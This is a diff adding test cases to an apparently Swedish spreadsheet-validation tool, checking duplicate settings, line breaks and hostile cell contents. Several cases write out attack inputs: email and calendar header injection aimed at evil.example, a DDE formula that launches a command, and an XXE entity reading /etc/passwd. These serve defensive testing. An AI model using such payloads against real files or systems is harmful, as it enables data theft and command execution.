@@ -824,6 +824,49 @@ def _bad_event_plan(wb: Workbook) -> None:
     set_cell(wb, "Händelser", 3, "Datum", "igår")
 
 
+@case(
+    "duplicate_setting",
+    1,
+    'Fel: Inställningar!A32: inställningen "Kommun" finns redan på rad 2; ta bort den ena raden',
+    summary(1, 0, "duplicate_setting"),
+)
+def _duplicate_setting(wb: Workbook) -> None:
+    # Kommun typed twice: which one wins would be a guess.
+    ws = wb["Inställningar"]
+    row = ws.max_row + 1
+    ws.cell(row, 1).value = "Kommun"
+    ws.cell(row, 2).value = "Norrviks kommun"
+    table = table_of(ws)
+    first, last = table.ref.split(":")
+    table.ref = f"{first}:{re.sub(r'[0-9]+', '', last)}{row}"
+
+
+@case("line_breaks_in_texts", 0, "Inga fel i line_breaks_in_texts.xlsx.")
+def _line_breaks_in_texts(wb: Workbook) -> None:
+    # Alt+Enter in Excel: a line break is ordinary text in a name or a place; the outputs fold it.
+    set_cell(wb, "Utförare", 2, "Namn", "Omsorgshuset Linnea AB\nBcc: angripare@evil.example")
+    set_cell(wb, "Årshjul", 2, "Plats", "Sjövägen 3\nATTENDEE:mailto:angripare@evil.example")
+
+
+@case(
+    "line_break_in_email",
+    1,
+    'Fel: Utförare!I2: "info@linnea.example\u240aBcc: angripare@evil.example" är ingen giltig e-postadress',
+    summary(1, 0, "line_break_in_email"),
+)
+def _line_break_in_email(wb: Workbook) -> None:
+    set_cell(wb, "Utförare", 2, "E-post", "info@linnea.example\nBcc: angripare@evil.example")
+
+
+@case("formula_text_in_names", 0, "Inga fel i formula_text_in_names.xlsx.")
+def _formula_text_in_names(wb: Workbook) -> None:
+    # Typed with a leading apostrophe: text that looks like a formula is text.
+    for row, value in ((2, '=HYPERLINK("http://evil.example","Klicka")'), (3, "=cmd|' /C calc'!A0")):
+        cell = wb["Utförare"].cell(row, header_col(wb["Utförare"], "Namn"))
+        cell.value = value
+        cell.data_type = "s"
+
+
 # --- refused: exit 3, a message naming the file ------------------------------------------------
 
 
@@ -889,6 +932,30 @@ def _corrupt_zip(data: bytes) -> bytes:
     for i in range(start, start + 16):
         broken[i] ^= 0xFF
     return bytes(broken)
+
+
+@raw_case(
+    "xxe_in_sheet",
+    "Fel: Filen xxe_in_sheet.xlsx innehåller en dokumenttypdeklaration (DOCTYPE/ENTITY) i xl/worksheets/sheet1.xml. "
+    "Excel skriver aldrig sådana; de kan få ett program att läsa andra filer. Filen läses inte. "
+    "Öppna den i Excel och spara den igen.",
+)
+def _xxe_in_sheet(data: bytes) -> bytes:
+    # An external entity that would read a file of the machine into a cell (XXE).
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            part = src.read(info)
+            if info.filename == "xl/worksheets/sheet1.xml":
+                doctype = b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+                if part.startswith(b"<?xml"):
+                    end = part.index(b"?>") + 2
+                    part = part[:end] + doctype + part[end:]
+                else:
+                    part = doctype + part
+                part = part.replace(b"<v>", b"<v>&xxe;", 1) if b"<v>" in part else part
+            dst.writestr(info, part)
+    return buffer.getvalue()
 
 
 def _ole_file(with_encryption: bool) -> bytes:
